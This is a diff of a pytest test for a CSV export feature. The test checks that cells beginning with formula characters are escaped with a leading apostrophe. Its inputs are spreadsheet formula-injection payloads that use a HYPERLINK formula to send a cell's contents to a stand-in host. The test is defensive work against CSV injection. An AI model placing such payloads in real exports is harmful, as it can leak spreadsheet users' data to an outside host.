@@ -101,26 +101,23 @@ def test_the_csv_module_reads_csv(report: str, tmp_path: Path) -> None:
     assert json.loads(everything["annotations"]) == EVERYTHING.annotations
 
 
-@pytest.mark.parametrize(
-    "start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b"]
-)
-def test_csv_has_no_formulas(start: str, tmp_path: Path) -> None:
-    hostile = f'{start}hyperlink("http://example.com/?"&a1)'
-    report = write_report(
-        tmp_path / "r",
-        [
-            image(
-                tag=hostile, architectures=(hostile,), annotations={hostile: hostile}
-            ),
-            failure(reference=hostile, detail=hostile),
-        ],
-    )
+def test_csv_has_no_formulas(tmp_path: Path) -> None:
+    starts = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b")
+    texts = [f'{start}hyperlink("http://example.com/?"&a1)' for start in starts]
+    images = [
+        image(reference=one, tag=one, architectures=(one,), annotations={one: one})
+        for one in texts
+    ]
+    failures = [failure(reference=one, detail=one) for one in texts]
+    report = write_report(tmp_path / "r", [*images, *failures])
     out = tmp_path / "out"
     export([report], target=ExportFormat.CSV, output=out, tables=TABLES)
-    (row,) = csv_rows(out / "images.csv")
-    assert row["tag"] == row["architectures"] == f"'{hostile}"
-    assert json.loads(row["annotations"]) == {hostile: hostile}
-    assert csv_rows(out / "failures.csv")[0]["detail"] == f"'{hostile}"
+    rows = csv_rows(out / "images.csv")
+    for row, text in zip(rows, texts, strict=True):
+        assert row["tag"] == row["architectures"] == f"'{text}"
+        assert json.loads(row["annotations"]) == {text: text}
+    details = [row["detail"] for row in csv_rows(out / "failures.csv")]
+    assert details == [f"'{text}" for text in texts]
     cells = [
         cell
         for path in out.iterdir()
